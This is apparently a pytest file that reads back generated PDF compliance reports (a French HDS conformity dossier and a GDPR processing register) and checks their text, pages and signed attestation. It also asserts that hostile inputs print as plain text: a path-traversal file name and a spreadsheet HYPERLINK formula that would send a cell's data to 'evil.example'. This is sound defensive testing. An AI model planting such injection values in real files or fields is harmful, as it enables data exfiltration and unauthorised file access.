"""The PDF reports read back with a real reader (pypdf): what they say, in which language, on how
many pages, and that hostile names stay text."""

import io

from pypdf import PdfReader

from compliance.reports.attestations import issuing
from tests.compliance.reports.conftest import HOSTILE_IMG, HOSTILE_LINK, PROCESSOR_NAME


def _text(data: bytes) -> tuple[PdfReader, str]:
    reader = PdfReader(io.BytesIO(data))
    return reader, "\n".join(page.extract_text() for page in reader.pages)


def _flat(text: str) -> str:
    return " ".join(text.split())


def _compact(text: str) -> str:
    """Without any white space: table cells break words over lines."""
    return "".join(text.split())


def test_conformity_dossier_states_statuses_findings_certificates_and_evidence(reported, generate):
    report, data = generate("conformity", "pdf")

    reader, text = _text(data)
    flat = _flat(text)
    assert data.startswith(b"%PDF-")
    # Cover, contents, summary, one section per processing.
    assert report.pages == len(reader.pages) == 7
    assert reader.metadata.title == "Dossier de conformité HDS"
    assert "Clinique des Tilleuls" in flat and "SIREN 732829320" in flat
    assert "Sommaire" in flat and "Synthèse" in flat
    assert "Non conforme 2" in flat
    # Each processing's two answers: the chain (hosting) and the register.
    assert "Dossier patient Non conforme Non conforme Conforme" in flat
    assert "hébergement : Non conforme · registre : Conforme" in flat
    # Hostile names are printed as the text they are.
    assert HOSTILE_IMG in flat and HOSTILE_LINK in flat and PROCESSOR_NAME in flat
    # Findings with their legal references, certificates with dates, evidence with sha256.
    assert "CSP art. L.1111-8 et R.1111-9 · coverage.activity_not_covered" in flat
    assert "RGPD art. 28(3) · evidence.dpa_missing" in flat
    compact = _compact(text)
    assert "HDSHDS-NS-2024-7LNE·v21,2,3,402/12/2024→01/12/2027Valide" in compact
    assert "HDSHDS-BK-6LNE·v2602/12/2024→31/03/2028Valide" in compact
    assert reported.contract.sha256 in compact
    assert "../../etc/passwd.pdf" in compact
    assert "Aucuncertificatenregistré" in compact
    # Page numbers in the footer.
    assert "Page 1 / 7" in flat and "Page 7 / 7" in flat


def test_conformity_dossier_carries_its_attestation(reported, generate):
    _report, data = generate("conformity", "pdf")

    reader = PdfReader(io.BytesIO(data))
    token = reader.attachments["attestation.jws"][0].decode()
    claims = issuing.verify_with_published_keys(token)
    assert claims["scope"] == "organisation"
    assert [p["name"] for p in claims["processings"]] == [PROCESSOR_NAME, "Dossier patient"]
    assert {p["status"] for p in claims["processings"]} == {"non_compliant"}
    # The cover's QR code and one per processing section: three images.
    images = {image.data for page in reader.pages for image in page.images}
    assert len(images) == 3


def test_conformity_dossier_of_one_processing_in_english(reported, generate):
    report, data = generate("conformity", "pdf", language="en", processing=reported.patient)

    reader, text = _text(data)
    flat = _flat(text)
    assert report.file_name.startswith("conformity-dossier-tilleuls-")
    assert report.pages == len(reader.pages) == 5
    assert "HDS conformity dossier" in flat and "Contents" in flat and "Summary" in flat
    assert "Non-compliant" in flat
    assert "without a valid HDS certificate covering it" in flat
    assert PROCESSOR_NAME not in flat
    claims = issuing.verify_with_published_keys(reader.attachments["attestation.jws"][0].decode())
    assert claims["scope"] == "processing"
    assert [p["id"] for p in claims["processings"]] == [reported.patient.pk]


def test_register_pdf_lists_controller_and_processor_entries(reported, generate):
    report, data = generate("register", "pdf")

    reader, text = _text(data)
    flat = _flat(text)
    assert report.pages == len(reader.pages) == 4
    assert "Registre des activités de traitement (RGPD art. 30)" in flat
    assert "Traitements dont l'organisation est responsable (art. 30(1))" in flat
    assert "Traitements effectués en tant que sous-traitant (art. 30(2))" in flat
    assert "(a) Responsables servis" in flat
    assert _compact('=HYPERLINK("http://evil.example/?x="&A1,"clic")') in _compact(text)
    assert "Art. 9(2)(h) soins, sous secret professionnel" in flat
    assert HOSTILE_IMG in flat and HOSTILE_LINK in flat
